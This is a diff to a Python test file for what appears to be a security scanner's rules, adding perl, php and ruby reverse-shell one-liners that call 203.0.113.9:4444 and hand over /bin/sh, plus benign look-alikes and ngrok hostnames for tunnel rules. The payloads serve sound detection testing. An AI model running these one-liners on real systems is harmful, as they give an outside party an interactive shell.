@@ -28,6 +28,9 @@ def test_network_reverse_shell():
         "socat tcp-connect:203.0.113.9:4444 exec:/bin/sh,pty,stderr",
         "sh -i 2>&1 | nc 203.0.113.9 4444",
         "python -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0)'",
+        'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i")\'',
+        'php -r \'$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
+        'ruby -rsocket -e \'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)\'',
     ):
         assert _severe(command) == {"network.reverse-shell"}, command
 
@@ -36,6 +39,8 @@ def test_network_reverse_shell_look_alikes_stay_below_medium():
     for text in (
         "rsync -e ssh src/ dest/",
         "os.dup2(devnull, 1)  # silence the child",
+        "os.dup2(log_fd, 2)  # stderr to the socket handler's file",
+        "conn = TCPSocket.open(host, port)",
         "nc -z localhost 5432",
         "sh -c 'make install'",
     ):
@@ -155,6 +160,8 @@ def test_network_tunnel_host_and_the_services_own_pages():
         "https://dashboard.ngrok.com/get-started",
         "https://abc123.ngrok.io",
         "your-server.ngrok.io",
+        "ap.ngrok.io",  # a region of the service, as the public suffix list names it
+        "tcp.eu.ngrok.io",
     ):
         assert _severe(docs) <= {"network.tunnel-service"}, docs
         assert "network.tunnel-host" not in _rule_of(docs), docs
